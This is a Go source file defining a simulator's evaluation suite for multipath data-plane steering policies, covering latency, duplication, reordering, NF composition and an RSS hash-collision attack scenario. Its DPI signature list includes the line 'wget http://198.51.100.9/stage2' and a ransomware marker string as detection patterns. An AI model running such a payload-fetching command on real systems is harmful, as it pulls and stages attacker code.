package experiment

import (
	"mpdp/internal/nf"
	"mpdp/internal/packet"
	"mpdp/internal/sim"
	"mpdp/internal/vnet"
)

// SuiteOpts controls a whole-experiment invocation.
type SuiteOpts struct {
	// Seed is the base seed (default 1).
	Seed uint64
	// Seeds is the number of independent repetitions averaged per point
	// (default 2).
	Seeds int
	// Quick shrinks horizons and repetitions for smoke runs.
	Quick bool
}

func (o *SuiteOpts) fill() {
	if o.Seed == 0 {
		o.Seed = 1
	}
	if o.Seeds == 0 {
		o.Seeds = 2
	}
	if o.Quick {
		o.Seeds = 1
	}
}

func (o SuiteOpts) duration(normal sim.Duration) sim.Duration {
	if o.Quick {
		return normal / 5
	}
	return normal
}

// ExpFunc runs one experiment.
type ExpFunc func(opts SuiteOpts) (*Result, error)

// Registry maps experiment IDs to implementations.
var Registry = func() map[string]ExpFunc {
	m := make(map[string]ExpFunc, len(suite))
	for _, e := range suite {
		m[e.id] = e.run
	}
	return m
}()

// IDs returns the registered experiment IDs in suite order.
func IDs() []string {
	ids := make([]string, len(suite))
	for i, e := range suite {
		ids[i] = e.id
	}
	return ids
}

// suite is the evaluation, in order. Most entries are pure data: a base
// configuration, the sweep, and the measures read off each run.
var suite = []*experiment{
	// E1: "the last mile matters". A conventional single-path data plane
	// at half load, under increasing noisy-neighbor intensity. The median
	// barely moves; the p99/p99.9 blow up by an order of magnitude.
	{
		id:    "E1",
		title: "Motivation: single-path tail latency vs interference intensity",
		notes: []string{
			"expected shape: median roughly flat across intensities; p99 grows multiples (tail blow-up)",
		},
		grid: grid{
			base:   RunConfig{NumPaths: 1, Policy: "single", Util: 0.5, Duration: 40 * sim.Millisecond},
			series: labelled(func(c *cellConfig, level string) { c.Interference = level }, "none", "light", "moderate", "heavy"),
			pool:   true,
			measures: []measure{
				{name: "p50", format: "%.1f", of: p50us},
				{name: "p90", format: "%.1f", of: func(r RunResult) float64 { return float64(r.Latency.P90) / 1000 }},
				{name: "p99", format: "%.1f", of: p99us},
				{name: "p99.9", format: "%.1f", of: func(r RunResult) float64 { return float64(r.Latency.P999) / 1000 }},
			},
			table:   &Table{Name: "E1t", Title: "latency percentiles (us)", Columns: []string{"interference"}},
			figures: []plot{{Figure{Name: "E1", Title: "latency CDF, single path @50% load", XLabel: "latency_us", YLabel: "cum_frac"}, cdfPoints}},
		},
	},
	// E2: p99 latency vs offered load for each policy.
	{
		id:    "E2",
		title: "p99 latency vs offered load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: static policies (rss) diverge first; adaptive multipath (flowlet/mpdp) holds the tail flat longest; mpdp lowest at mid-high load",
		},
		grid: grid{
			base:     RunConfig{Interference: "moderate", Duration: 30 * sim.Millisecond},
			series:   policies("rss", "rr", "jsq", "po2", "flowlet", "mpdp"),
			axis:     sweep(func(c *cellConfig, load float64) { c.Util = load }, 0.3, 0.5, 0.6, 0.7, 0.8, 0.9),
			measures: []measure{p99},
			figures:  []plot{{Figure: Figure{Name: "E2", Title: "p99 vs load", XLabel: "load", YLabel: "p99_us"}}},
		},
	},
	// E3: the full latency CDF at 70% load for the headline policies.
	{
		id:    "E3",
		title: "latency CDF @ 70% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: all medians similar; rss/rr tails longest, mpdp tail shortest; dup-all good tail but see E7 for its cost",
		},
		grid: grid{
			base:    RunConfig{Util: 0.7, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series:  policies("rss", "rr", "flowlet", "dup-all", "mpdp"),
			pool:    true,
			figures: []plot{{Figure{Name: "E3", Title: "latency CDF @ 0.7 load", XLabel: "latency_us", YLabel: "cum_frac"}, cdfPoints}},
		},
	},
	// E4: p99 vs number of paths at fixed relative load.
	{
		id:    "E4",
		title: "p99 latency vs number of paths (60% load, moderate interference)",
		notes: []string{
			"expected shape: both improve with paths; mpdp gains most of its win by 4 paths (diminishing returns); gap vs rss persists at every width",
		},
		grid: grid{
			base:     RunConfig{Util: 0.6, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series:   policies("rss", "jsq", "mpdp"),
			axis:     sweep(func(c *cellConfig, n float64) { c.NumPaths = int(n) }, 1, 2, 3, 4, 6, 8),
			measures: []measure{p99},
			figures:  []plot{{Figure: Figure{Name: "E4", Title: "p99 vs paths", XLabel: "paths", YLabel: "p99_us"}}},
		},
	},
	// E5: p99 vs workload burstiness at a fixed mean rate.
	{
		id:    "E5",
		title: "p99 latency vs burstiness (ON/OFF arrivals, 60% mean load)",
		notes: []string{
			"x = peak-to-mean ratio (1 = smooth CBR-like). expected shape: static hashing degrades steeply with burstiness; mpdp absorbs bursts via path diversity",
		},
		grid: grid{
			base:   RunConfig{Util: 0.6, Interference: "light", Duration: 30 * sim.Millisecond},
			series: policies("rss", "jsq", "mpdp"),
			axis: sweep(func(c *cellConfig, peak float64) {
				c.Arrival = "poisson"
				if peak > 1 {
					c.Arrival, c.BurstDuty = "onoff", 1/peak
				}
			}, 1, 2, 5, 10, 20),
			measures: []measure{p99},
			figures:  []plot{{Figure: Figure{Name: "E5", Title: "p99 vs burst intensity", XLabel: "peak_to_mean", YLabel: "p99_us"}}},
		},
	},
	// E6: p99 flow completion time of incast responses vs fan-in.
	{
		id:    "E6",
		title: "incast: p99 response FCT vs fan-in (20KB responses, 4 paths)",
		notes: []string{
			"expected shape: FCT grows with fan-in for all; rss suffers hash collisions onto one lane; mpdp spreads each burst, keeping p99 a small multiple of the ideal",
		},
		grid: grid{
			cell:     incast,
			series:   policies("rss", "jsq", "mpdp"),
			axis:     sweep(func(c *cellConfig, n float64) { c.n = int(n) }, 4, 8, 16, 32, 64),
			measures: []measure{{name: "p99_fct_us"}},
			figures:  []plot{{Figure: Figure{Name: "E6", Title: "p99 FCT vs fan-in", XLabel: "fanin", YLabel: "p99_fct_us"}}},
		},
	},
	// E7: the throughput/duplication cost table at 80% load.
	{
		id:    "E7",
		title: "throughput and duplication overhead @ 80% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: dup-all pays ~100% extra copies and loses goodput/deliveries at this load; mpdp's budgeted duplication stays under ~25% with near-best p99",
		},
		grid: grid{
			base:   RunConfig{Util: 0.8, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series: policies("rss", "rr", "jsq", "flowlet", "dup-all", "mpdp"),
			measures: []measure{
				{name: "goodput_gbps", format: "%.3f", of: func(r RunResult) float64 { return r.GoodputGbps }},
				{name: "delivery_%", format: "%.2f", of: deliveryPct},
				{name: "dup_overhead_%", format: "%.1f", of: dupOverheadPct},
				count("dup_cancelled", func(r RunResult) uint64 { return r.DupCancelled }),
				{name: "p50_us", format: "%.1f", of: p50us},
				p99,
			},
			table: &Table{Name: "E7t", Title: "per-policy cost", Columns: []string{"policy"}},
		},
	},
	// E8: the reordering cost table at 70% load.
	{
		id:    "E8",
		title: "reordering cost @ 70% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: rr reorders heavily (per-packet spraying); flowlet/mpdp keep OOO% low; rss never reorders by construction",
		},
		grid: grid{
			base:   RunConfig{Util: 0.7, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series: policies("rss", "rr", "random", "jsq", "flowlet", "dup-all", "mpdp"),
			measures: []measure{
				{name: "ooo_%", format: "%.2f", of: oooPct},
				count("max_occupancy", func(r RunResult) uint64 { return uint64(r.Reorder.MaxOccupancy) }),
				{name: "reorder_wait_p99_us", format: "%.1f", of: func(r RunResult) float64 { return r.ReorderWaitP99 / 1000 }},
				count("timeout_fires", func(r RunResult) uint64 { return r.Reorder.TimeoutFires }),
				count("late_drops", func(r RunResult) uint64 { return r.Reorder.LateDrops }),
				count("dup_drops", func(r RunResult) uint64 { return r.Reorder.DupDrops }),
			},
			table: &Table{Name: "E8t", Title: "reorder-buffer behaviour", Columns: []string{"policy"}},
		},
	},
	// E9: p99 vs SFC length.
	{
		id:    "E9",
		title: "p99 latency vs SFC length (70% load, 4 paths, moderate interference)",
		notes: []string{
			"expected shape: longer chains raise base service time; the absolute mpdp-vs-rss gap widens with chain length (more service time exposed to stragglers)",
		},
		grid: grid{
			base:     RunConfig{Util: 0.7, Interference: "moderate", Duration: 25 * sim.Millisecond},
			series:   policies("rss", "mpdp"),
			axis:     sweep(func(c *cellConfig, n float64) { c.ChainLen = int(n) }, 1, 2, 3, 4, 5, 6),
			measures: []measure{p99},
			figures:  []plot{{Figure: Figure{Name: "E9", Title: "p99 vs chain length", XLabel: "chain_len", YLabel: "p99_us"}}},
		},
	},
	// E10: where delivered-packet latency goes, per policy.
	{
		id:    "E10",
		title: "latency breakdown @ 70% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: queueing dominates the tail for static policies; mpdp trades a little reorder wait for much less queueing",
		},
		grid: grid{
			base:   RunConfig{Util: 0.7, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series: policies("rss", "rr", "jsq", "flowlet", "mpdp"),
			measures: []measure{
				{name: "queue_mean", format: "%.2f", of: func(r RunResult) float64 { return r.QueueWaitMean / 1000 }},
				{name: "queue_p99", format: "%.2f", of: func(r RunResult) float64 { return r.QueueWaitP99 / 1000 }},
				{name: "service_mean", format: "%.2f", of: func(r RunResult) float64 { return r.ServiceMean / 1000 }},
				{name: "service_p99", format: "%.2f", of: func(r RunResult) float64 { return r.ServiceP99 / 1000 }},
				{name: "reorder_mean", format: "%.2f", of: func(r RunResult) float64 { return r.ReorderWaitMean / 1000 }},
				{name: "reorder_p99", format: "%.2f", of: func(r RunResult) float64 { return r.ReorderWaitP99 / 1000 }},
				{name: "total_p99", format: "%.2f", of: p99us},
			},
			table: &Table{Name: "E10t", Title: "latency components (us)", Columns: []string{"policy"}},
		},
	},
	// E11: adaptivity. p99 per 2 ms window across a scripted interference
	// burst hitting half the paths.
	{
		id:    "E11",
		title: "adaptivity timeline: scripted 8x slowdown on paths 0-1 during [20ms,30ms)",
		notes: []string{
			"expected shape: rss p99 spikes for the whole burst (hashed flows are stuck); mpdp spikes briefly then re-steers flowlets to clean paths",
		},
		grid: grid{
			base: RunConfig{
				Util: 0.6, SlowdownFor: burstOnPaths01,
				TimelineWindow: 2 * sim.Millisecond,
				Duration:       50 * sim.Millisecond,
				Warmup:         1, // timeline wants the whole run
			},
			series:  policies("rss", "mpdp"),
			single:  true,
			figures: []plot{{Figure{Name: "E11", Title: "windowed p99 over time", XLabel: "t_ms", YLabel: "p99_us"}, windowP99}},
		},
	},
	// E12: which MPDP design choices matter.
	{
		id:    "E12",
		title: "ablation of MPDP design choices @ 75% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: per-packet steering (timeout 0) reorders heavily; per-flow (timeout inf) adapts too slowly; no duplication loses tail; unlimited duplication costs overhead",
		},
		grid: grid{
			base: RunConfig{Policy: "mpdp", Util: 0.75, Interference: "moderate", Duration: 30 * sim.Millisecond},
			series: []point{
				{label: "mpdp (default)"},
				{label: "flowlet timeout 0 (per-packet)", set: func(c *cellConfig) { c.FlowletTimeout = 1 }},
				{label: "flowlet timeout 100us", set: func(c *cellConfig) { c.FlowletTimeout = 100 * sim.Microsecond }},
				{label: "flowlet timeout inf (per-flow)", set: func(c *cellConfig) { c.FlowletTimeout = 1000 * sim.Second }},
				{label: "no duplication", set: func(c *cellConfig) { c.Policy = "mpdp-nodup" }},
				{label: "dup budget 100%", set: func(c *cellConfig) { c.DupBudget = 1.0 }},
				{label: "dup threshold 2 (eager)", set: func(c *cellConfig) { c.DupThreshold = 2 }},
				{label: "dup threshold 32 (timid)", set: func(c *cellConfig) { c.DupThreshold = 32 }},
				{label: "class-aware duplication", set: func(c *cellConfig) { c.ClassAware = true }},
				{label: "no reorder stage", set: func(c *cellConfig) { c.DisableReorder = true }},
			},
			measures: []measure{
				{name: "p50_us", format: "%.1f", of: p50us},
				p99,
				{name: "dup_overhead_%", format: "%.1f", of: dupOverheadPct},
				{name: "ooo_%", format: "%.2f", of: oooPct},
				{name: "delivery_%", format: "%.2f", of: deliveryPct},
			},
			table: &Table{Name: "E12t", Title: "MPDP variants", Columns: []string{"variant"}},
		},
	},
	// E13: flow completion times under the canonical web-search flow size
	// distribution. Mice FCT is the latency-sensitive metric; elephants
	// measure bandwidth fairness.
	{
		id:    "E13",
		title: "flow completion time, web-search flow sizes (4 paths, moderate interference)",
		notes: []string{
			"expected shape: mpdp cuts short-flow (mice) p99 FCT well below rss; long-flow FCT differs little (elephants are bandwidth-bound, not tail-bound)",
		},
		grid: grid{
			cell: flowFCT,
			// Elephants burst thousands of packets.
			base:   RunConfig{QueueCap: 2048, Duration: 60 * sim.Millisecond},
			series: policies("rss", "jsq", "letflow", "mpdp"),
			measures: []measure{
				{name: "short_p50", format: "%.1f"}, {name: "short_p99", format: "%.1f"},
				{name: "long_p50", format: "%.1f"}, {name: "long_p99", format: "%.1f"},
				{name: "completed_%", format: "%.2f"},
			},
			table: &Table{Name: "E13t", Title: "FCT by flow class (us)", Columns: []string{"policy"}},
		},
	},
	// E14: drop-tail sensitivity. How much buffer does each policy need at
	// high load?
	{
		id:    "E14",
		title: "queue-capacity sensitivity @ 85% load (4 paths, moderate interference)",
		notes: []string{
			"expected shape: static hashing needs deep buffers to avoid loss (one hot lane overflows); adaptive multipath holds ~full delivery with small buffers, and its p99 grows more slowly with depth",
		},
		grid: grid{
			base:     RunConfig{Util: 0.85, Interference: "moderate", Duration: 25 * sim.Millisecond},
			series:   policies("rss", "jsq", "mpdp"),
			axis:     sweep(func(c *cellConfig, qc float64) { c.QueueCap = int(qc) }, 32, 64, 128, 256, 512),
			measures: []measure{{name: "delivery_frac", of: func(r RunResult) float64 { return r.DeliveryRate }}, p99},
			figures: []plot{
				{Figure: Figure{Name: "E14a", Title: "delivery rate vs queue capacity", XLabel: "queue_cap", YLabel: "delivery_frac"}},
				{Figure: Figure{Name: "E14b", Title: "p99 vs queue capacity", XLabel: "queue_cap", YLabel: "p99_us"}},
			},
		},
	},
	// E15: is priority queueing an alternative to multipath, or a
	// complement? Latency-sensitive traffic shares the data plane with bulk
	// flows under FIFO, strict-priority, and DRR disciplines, crossed with
	// static RSS vs MPDP steering.
	{
		id:    "E15",
		title: "class isolation: qdisc x steering @ 80% load, 40% bulk traffic",
		notes: []string{
			"expected shape: priority queueing protects the latency class from bulk HoL blocking but not from interference (slow cores hit all bands); multipath fixes interference but not HoL; the combination wins",
		},
		grid: grid{
			base: RunConfig{
				Util: 0.8, Interference: "moderate",
				// Heavier bulk share to create head-of-line pressure.
				BulkFraction: 0.4,
				SizeDist:     "imix", FlowSkew: 1.0,
				Duration: 30 * sim.Millisecond,
			},
			series: policies("rss", "mpdp"),
			axis:   labelled(func(c *cellConfig, q string) { c.Qdisc = q }, "fifo", "prio", "drr"),
			measures: []measure{
				{name: "lat_class_p99", format: "%.1f", of: func(r RunResult) float64 { return r.ClassP99[nf.ClassLatencySensitive] }},
				{name: "bulk_class_p99", format: "%.1f", of: func(r RunResult) float64 { return r.ClassP99[nf.ClassBulk] }},
				{name: "delivery_%", format: "%.2f", of: deliveryPct},
			},
			table: &Table{Name: "E15t", Title: "latency-sensitive-class p99 (us)", Columns: []string{"policy", "qdisc"}},
		},
	},
	// E16: NF composition (the ParaGraph axis) crossed with multipath: does
	// composing the chain differently stack with scheduling?
	{
		id:    "E16",
		title: "NF composition x multipath @ 70% load (4 paths, moderate interference)",
		notes: []string{
			"same five logical NFs, three compositions, identical arrival rate (calibrated to the sequential chain)",
			"expected shape: parallel/branch compositions cut base service time (p50); multipath cuts queueing (p99); the effects stack",
		},
		grid: grid{
			cell:   composition,
			base:   RunConfig{Util: 0.7, Duration: 25 * sim.Millisecond},
			series: compositions,
			axis:   policies("rss", "mpdp"),
			measures: []measure{
				{name: "service_mean_us", format: "%.2f"}, {name: "p50_us", format: "%.1f"},
				{name: "p99_us", format: "%.1f"}, {name: "delivery_%", format: "%.2f"},
			},
			table: &Table{Name: "E16t", Title: "composition x steering", Columns: []string{"composition", "policy"}},
		},
	},
	// E17: robustness. An adversary crafts flows that all collide onto RSS
	// queue 0 (an algorithmic-complexity attack on static hashing). The
	// aggregate rate is a modest 50% of one core's capacity times four, so
	// harmless if spread and fatal if concentrated.
	{
		id:    "E17",
		title: "adversarial RSS-collision flows @ 50% aggregate load (4 paths)",
		notes: []string{
			"all flows crafted to Toeplitz-hash onto queue 0; same packet rate as a benign mix",
			"expected shape: rss collapses (one core takes 4x its capacity, three idle); any feedback-driven policy is indifferent to the crafted tuples",
		},
		grid: grid{
			cell:   hashAttack,
			base:   RunConfig{Util: 0.5, Duration: 25 * sim.Millisecond},
			series: policies("rss", "rr", "jsq", "flowlet", "mpdp"),
			measures: []measure{
				{name: "delivery_%", format: "%.2f"}, {name: "p50_us", format: "%.1f"},
				{name: "p99_us", format: "%.1f"}, {name: "busiest_lane_share_%", format: "%.1f"},
			},
			table: &Table{Name: "E17t", Title: "under collision attack", Columns: []string{"policy"}},
		},
	},
	// E18: the application-level view. Closed-loop RPC clients over the data
	// plane: offered load is self-clocking, so the y axes are what an
	// application owner sees, request p99 and achieved request rate at a
	// given concurrency.
	{
		id:    "E18",
		title: "closed-loop RPC: request p99 and throughput vs concurrency (4 paths, moderate interference)",
		notes: []string{
			"2KB requests, 100us mean think time; each request is a fresh flow",
			"expected shape: at low concurrency mpdp and rss achieve similar rates but mpdp's p99 is far lower; at high concurrency rss's hot lanes throttle the achieved rate itself",
		},
		grid: grid{
			cell:     closedLoop,
			base:     RunConfig{Duration: 30 * sim.Millisecond},
			series:   policies("rss", "jsq", "mpdp"),
			axis:     sweep(func(c *cellConfig, n float64) { c.n = int(n) }, 8, 32, 128, 512),
			measures: []measure{{name: "p99_us"}, {name: "kreq_per_s"}},
			figures: []plot{
				{Figure: Figure{Name: "E18a", Title: "request p99 vs concurrency", XLabel: "clients", YLabel: "p99_us"}},
				{Figure: Figure{Name: "E18b", Title: "achieved request rate vs concurrency", XLabel: "clients", YLabel: "kreq_per_s"}},
			},
		},
	},
	// E19: permanently asymmetric paths, lane speeds 1×/1×/2×/4× (e.g. two
	// performance cores, one mid core, one efficiency core). Static
	// equal-split policies waste the fast cores and drown the slow one;
	// rate-aware and feedback policies find the true capacity split.
	{
		id:    "E19",
		title: "heterogeneous path speeds (1x/1x/2x/4x slower) @ 60% load of true capacity",
		notes: []string{
			"lane 2 is 2x slower, lane 3 is 4x slower; load calibrated to the aggregate true capacity",
			"expected shape: rss/rr split evenly and overload the slow lanes (drops, huge tails); wrr matches the rate split but ignores transients; jsq/mpdp find the split by feedback",
		},
		grid: grid{
			// True aggregate capacity = 1 + 1 + 1/2 + 1/4 = 2.75
			// core-equivalents; Util is interpreted against NumPaths (4), so
			// scale it down.
			base:   RunConfig{Util: 0.6 * 2.75 / 4, SlowdownFor: slowLanes23, Duration: 25 * sim.Millisecond},
			series: policies("rss", "rr", "wrr", "jsq", "mpdp"),
			measures: []measure{
				{name: "delivery_%", format: "%.2f", of: deliveryPct},
				{name: "p50_us", format: "%.1f", of: p50us},
				p99,
				{name: "slow_lane_share_%", format: "%.1f", of: slowLaneShare},
			},
			table: &Table{Name: "E19t", Title: "on asymmetric cores", Columns: []string{"policy"}},
		},
	},
	e20,
	e22,
}

// policies returns one point per policy name.
func policies(names ...string) []point {
	return labelled(func(c *cellConfig, name string) { c.Policy = name }, names...)
}

// labelled returns one point per name, each applying set with its name.
func labelled(set func(c *cellConfig, name string), names ...string) []point {
	out := make([]point, len(names))
	for i, name := range names {
		out[i] = point{label: name, set: func(c *cellConfig) { set(c, name) }}
	}
	return out
}

// sweep returns one point per x, each applying set with its x.
func sweep(set func(c *cellConfig, x float64), xs ...float64) []point {
	out := make([]point, len(xs))
	for i, x := range xs {
		out[i] = point{label: trimFloat(x), x: x, set: func(c *cellConfig) { set(c, x) }}
	}
	return out
}

// p99 is the suite's headline measure.
var p99 = measure{name: "p99_us", format: "%.1f", of: p99us}

func p50us(r RunResult) float64          { return float64(r.Latency.P50) / 1000 }
func p99us(r RunResult) float64          { return float64(r.Latency.P99) / 1000 }
func deliveryPct(r RunResult) float64    { return r.DeliveryRate * 100 }
func dupOverheadPct(r RunResult) float64 { return r.DupOverhead * 100 }
func oooPct(r RunResult) float64         { return r.Reorder.OOOFraction() * 100 }

// cdfPoints thins a run's latency CDF to about 30 points (µs, cumulative
// fraction), keeping every point past p99: the tail is what matters.
func cdfPoints(r RunResult) []Point {
	const n = 30
	cdf := r.CDF
	if len(cdf) == 0 {
		return nil
	}
	out := make([]Point, 0, n)
	step := max(len(cdf)/n, 1)
	for i := 0; i < len(cdf); i += step {
		p := cdf[i]
		out = append(out, Point{X: float64(p.Value) / 1000, Y: p.Frac})
		if p.Frac > 0.99 {
			for j := i + 1; j < len(cdf); j++ {
				out = append(out, Point{X: float64(cdf[j].Value) / 1000, Y: cdf[j].Frac})
			}
			return out
		}
	}
	last := cdf[len(cdf)-1]
	return append(out, Point{X: float64(last.Value) / 1000, Y: last.Frac})
}

// windowP99 is a run's timeline as a curve: p99 (µs) per window, x in ms.
// Only windows with deliveries exist, so a dead path simply ends the curve.
func windowP99(r RunResult) []Point {
	var out []Point
	for _, wp := range r.Timeline {
		out = append(out, Point{X: float64(wp.Start) / 1e6, Y: float64(wp.Hist.Percentile(0.99)) / 1000})
	}
	return out
}

// burstOnPaths01 slows paths 0 and 1 eightfold during [20ms, 30ms) (E11).
func burstOnPaths01(i int) vnet.Slowdown {
	if i > 1 {
		return nil
	}
	return &vnet.ScriptedSlowdown{Windows: []vnet.SlowWindow{
		{Start: 20 * sim.Millisecond, End: 30 * sim.Millisecond, Factor: 8},
	}}
}

// slowLanes23 makes lane 2 twice and lane 3 four times slower (E19).
func slowLanes23(i int) vnet.Slowdown {
	switch i {
	case 2:
		return vnet.ConstantSlowdown(2)
	case 3:
		return vnet.ConstantSlowdown(4)
	default:
		return nil
	}
}

// slowLaneShare is the percentage of served packets the two slow lanes of
// E19 handled (ideal = (0.5+0.25)/2.75 ≈ 27%).
func slowLaneShare(r RunResult) float64 {
	var total, slow uint64
	for i, served := range r.PerPathServed {
		total += served
		if i >= 2 {
			slow += served
		}
	}
	if total == 0 {
		return 0
	}
	return float64(slow) / float64(total) * 100
}

// shardB is a second DPI signature set, disjoint from nf.DefaultSignatures.
var shardB = []string{
	"X-Shard-B: ransom-note-marker",
	"\xde\xad\xbe\xef\xde\xad\xbe\xef",
	"wget http://198.51.100.9/stage2",
}

// compositions are E16's lane chains: the same five logical NFs
// (classifier, firewall, router, monitor, DPI), composed five ways.
var compositions = []point{
	composed("sequential chain", func() *nf.Chain { return nf.PresetChain(5) }),
	composed("parallel group (mon || dpi)", func() *nf.Chain {
		par := nf.NewParallelGroup("par",
			nf.NewMonitor("mon"),
			nf.NewDPI("dpi", nf.DefaultSignatures, false),
		)
		return nf.NewChain("sfc-par",
			nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(), par)
	}),
	composed("sequential dual-DPI (2x signatures)", func() *nf.Chain {
		return nf.NewChain("sfc-seq2",
			nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(),
			nf.NewMonitor("mon"),
			nf.NewDPI("dpiA", nf.DefaultSignatures, false),
			nf.NewDPI("dpiB", shardB, false))
	}),
	composed("parallel dual-DPI (2x signatures)", func() *nf.Chain {
		// Delay-balanced parallelism: two equally expensive DPI
		// instances with disjoint signature shards scan concurrently —
		// double the inspection coverage at roughly single-DPI latency.
		par := nf.NewParallelGroup("par2",
			nf.NewDPI("dpiA", nf.DefaultSignatures, false),
			nf.NewDPI("dpiB", shardB, false),
		)
		return nf.NewChain("sfc-par2",
			nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(),
			nf.NewMonitor("mon"), par)
	}),
	composed("fast-path branch (lat skips dpi)", func() *nf.Chain {
		common := []nf.Element{nf.PresetFirewall(20), nf.PresetRouter(), nf.NewMonitor("mon")}
		fast := nf.NewChain("fast", common...)
		slowElems := append(append([]nf.Element{}, common...),
			nf.NewDPI("dpi", nf.DefaultSignatures, false))
		slow := nf.NewChain("slow", slowElems...)
		br := nf.NewBranch("fp", func(p *packet.Packet) int {
			if nf.ClassOf(p) == nf.ClassLatencySensitive {
				return 0
			}
			return 1
		}, fast, slow)
		return nf.NewChain("sfc-branch", nf.PresetClassifier(), br)
	}),
}

func composed(label string, chain func() *nf.Chain) point {
	return point{label: label, set: func(c *cellConfig) { c.chain = chain }}
}
